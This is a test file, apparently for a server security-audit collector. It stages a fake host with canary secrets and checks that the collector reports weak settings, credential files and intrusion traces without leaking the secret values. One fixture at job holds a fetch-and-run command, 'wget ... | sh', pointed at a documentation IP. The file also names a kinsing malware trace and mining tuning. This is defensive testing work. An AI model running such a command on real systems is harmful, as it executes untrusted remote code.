import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type CollectorOutput, factsOf, runCollector } from '../testing/run-collector';
import type { HostFacts } from './read-facts';

// This machine, seen through a layer in which a server's files lie: the script reads them as it would on that server.
const scratch = mkdtempSync(join(tmpdir(), 'collect-staged-'));
const CONTAINER = 'c'.repeat(64);
const CONTAINERS = '/srv/engine/containers';

const FILES: Readonly<Record<string, { text: string; mode?: number }>> = {
  '/etc/docker/daemon.json': { text: '{\n  "data-root": "/srv/engine"\n}\n' },
  '/etc/shadow': { text: 'root:$6$canary$hash:1::::::\nopen::1::::::\nshut:!:1::::::\n', mode: 0o600 },
  '/root/.docker/config.json': {
    text: '{\n\t"auths": {"ghcr.io": {"auth": "canary-auth=="}, "quay.io": {}},\n\t"HttpHeaders": {"X": "canary\\"quoted"}\n}\n',
    mode: 0o644,
  },
  '/root/.aws/credentials': { text: 'aws_secret_access_key = canary-aws\n', mode: 0o600 },
  [`${CONTAINERS}/${CONTAINER}/config.v2.json`]: {
    text: '{"Config":{"Env":["X=canary-env"],"Labels":{"com.docker.compose.project.working_dir":"/opt/my shop","x":"y"}}}',
  },
  [`${CONTAINERS}/${CONTAINER}/${CONTAINER}-json.log`]: { text: 'canary-log\n' },
  [`${CONTAINERS}/${CONTAINER}/${CONTAINER}-json.log.1`]: { text: 'old\n' },
  '/opt/my shop/.env': {
    text: '# DB_TOKEN=canary\nexport DB_PASSWORD=canary-env-file\nEMPTY_SECRET=\nPORT=80\n',
    mode: 0o644,
  },
  '/var/spool/cron/atjobs/a00001': { text: '#!/bin/sh\n# atrun uid=0 gid=0\nwget -q http://198.51.100.23/x | sh\n' },
  '/etc/ssh/sshd_config': { text: 'PermitRootLogin yes\nPasswordAuthentication yes\n' },
  '/tmp/kinsing': { text: '', mode: 0o755 },
  '/etc/audit/rules.d/docker.rules': { text: '-w /usr/bin/dockerd -k docker\n' },
  '/etc/containerd/config.toml': {
    text: 'version = 2\n[grpc]\n  tcp_address = "0.0.0.0:9999"\n[plugins."x".registry.auth]\n  password = "canary-registry"\n',
  },
  '/var/lib/kubelet/config.yaml': { text: 'authentication:\n  anonymous:\n    enabled: true\n' },
  '/run/reboot-required': { text: '*** System restart required ***\n' },
  '/run/reboot-required.pkgs': { text: 'linux-image-6.1.0-31-amd64\n' },
  '/usr/lib/modules/6.1.0-31-amd64/modules.dep': { text: '' },
  '/etc/sysctl.d/99-fast.conf': { text: 'vm.nr_hugepages = 1280\n' },
  '/etc/hosts': { text: '127.0.0.1 localhost\n0.0.0.0 registry-1.docker.io\n' },
  '/etc/environment': { text: 'DOCKER_CONTENT_TRUST=1\n' },
  '/usr/bin/fail2ban-server': { text: '#!/bin/sh\n', mode: 0o755 },
};

function stage(): string {
  const layer = join(scratch, 'layer');
  for (const [path, { text, mode = 0o644 }] of Object.entries(FILES)) {
    mkdirSync(dirname(join(layer, path)), { recursive: true });
    writeFileSync(join(layer, path), text, { mode });
  }
  chmodSync(join(layer, 'root'), 0o700);
  return layer;
}

const SET_UP = [
  'set -e; cd "$0"; layer=$1; shift; mkdir place; mount -t tmpfs tmpfs place; cd place; mkdir upper work root',
  'cp -a "$layer/." upper/; mount -t overlay overlay -o lowerdir=/,upperdir=upper,workdir=work root',
  'for d in proc sys dev; do mount --rbind /$d root/$d; done',
  'exec chroot root "$@"',
].join('\n');

const SHELLS = [
  ['dash', ['dash', '-c']],
  ['busybox ash', ['busybox', 'ash', '-c']],
] as const;

const valueOf = <N extends keyof HostFacts>(facts: HostFacts, name: N) => {
  const fact = facts[name];
  if (!fact.read) throw new Error(`${name}: ${fact.reason} ${fact.detail ?? ''}`);
  return fact.value as Extract<HostFacts[N], { read: true }>['value'];
};

let layer = '';
beforeAll(() => {
  layer = stage();
});
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

const collect = (name: string, shell: readonly string[]): Promise<CollectorOutput> => {
  const place = join(scratch, name);
  mkdirSync(place);
  return runCollector(['unshare', '-m', '--propagation', 'private', 'dash', '-c', SET_UP, place, layer, ...shell]);
};

describe.each(SHELLS)('the files of a server under %s', (name, shell) => {
  let output: CollectorOutput;
  let facts: HostFacts;
  beforeAll(async () => {
    output = await collect(name, shell);
    facts = factsOf(output);
  });

  it('leaves every secret where it is', () => {
    expect(output.exitCode).toBe(0);
    expect(output.stdout.toString('latin1')).not.toContain('canary');
  });

  it('tells of passwords and logins whether, never which', () => {
    expect(valueOf(facts, 'passwordStates')).toEqual([
      { user: 'root', state: 'set' },
      { user: 'open', state: 'empty' },
      { user: 'shut', state: 'locked' },
    ]);
    expect(valueOf(facts, 'registryLogins')).toMatchObject([
      { path: '/root/.docker/config.json', user: 'root', mode: 0o644, inlineRegistries: ['ghcr.io'] },
    ]);
    expect(valueOf(facts, 'credentialFiles')).toMatchObject([{ credential: 'aws', mode: 0o600, user: 'root' }]);
  });

  it('finds the engine’s own place, its logs and the projects of its containers', () => {
    expect(valueOf(facts, 'containerLogFiles')).toMatchObject([
      { containerId: CONTAINER, sizeBytes: 11, rotatedBytes: 4 },
    ]);
    expect(valueOf(facts, 'composeEnvFiles')).toMatchObject([
      { directory: '/opt/my shop', mode: 0o644, secretNames: ['DB_PASSWORD'] },
    ]);
    expect(valueOf(facts, 'hostFiles')).toContainEqual(
      expect.objectContaining({ path: '/srv/engine', role: 'directory' }),
    );
  });

  it('reads doors: sshd, at, containerd, the kubelet', () => {
    expect(valueOf(facts, 'sshd').settings['permitrootlogin']).toEqual(['yes']);
    expect(valueOf(facts, 'atJobs')[0]?.lines).toEqual([
      { lineNumber: 3, text: 'wget -q http://198.51.100.23/x | sh' },
    ]);
    expect(valueOf(facts, 'containerdConfigs')[0]?.addresses).toEqual([
      { section: 'grpc', key: 'tcp_address', address: '0.0.0.0:9999', lineNumber: 3 },
    ]);
    expect(valueOf(facts, 'kubelet').anonymousAuth).toBe(true);
  });

  it('reads the kernel’s state and who was here', () => {
    expect(valueOf(facts, 'kernels')).toMatchObject({
      installed: expect.arrayContaining(['6.1.0-31-amd64']) as string[],
      rebootRequired: true,
      rebootPackages: ['linux-image-6.1.0-31-amd64'],
    });
    expect(valueOf(facts, 'miningTuning').hugePageLines).toContainEqual({
      path: '/etc/sysctl.d/99-fast.conf',
      lineNumber: 1,
      text: 'vm.nr_hugepages = 1280',
      packageOwner: null,
    });
    expect(valueOf(facts, 'knownTraces')).toMatchObject([{ path: '/tmp/kinsing', mode: 0o755, sizeBytes: 0 }]);
    expect(valueOf(facts, 'resolver').hostEntries).toContainEqual({
      lineNumber: 2,
      address: '0.0.0.0',
      names: ['registry-1.docker.io'],
    });
    expect(valueOf(facts, 'contentTrustLines')).toMatchObject([{ path: '/etc/environment', lineNumber: 1 }]);
  });

  it('reads what guards the machine', () => {
    expect(valueOf(facts, 'auditing')).toMatchObject({
      source: 'files',
      rules: [{ path: '/etc/audit/rules.d/docker.rules', lineNumber: 1, text: '-w /usr/bin/dockerd -k docker' }],
    });
    expect(valueOf(facts, 'securityServices').find((one) => one.name === 'fail2ban')?.present).toBe(true);
  });
});

describe('the same files for a login without rights', () => {
  it('says of each closed thing that it is closed', async () => {
    const nobody = ['setpriv', '--reuid=65534', '--regid=65534', '--clear-groups', 'dash', '-c'];
    const facts = factsOf(await collect('nobody', nobody));
    for (const name of ['passwordStates', 'registryLogins', 'credentialFiles', 'socketStreams'] as const)
      expect(facts[name]).toMatchObject({ read: false, reason: 'no-permission' });
    expect(valueOf(facts, 'sshd')).toMatchObject({ source: 'files', settings: { permitrootlogin: ['yes'] } });
    expect(valueOf(facts, 'collectorLogin').uid).toBe(65_534);
  });
});
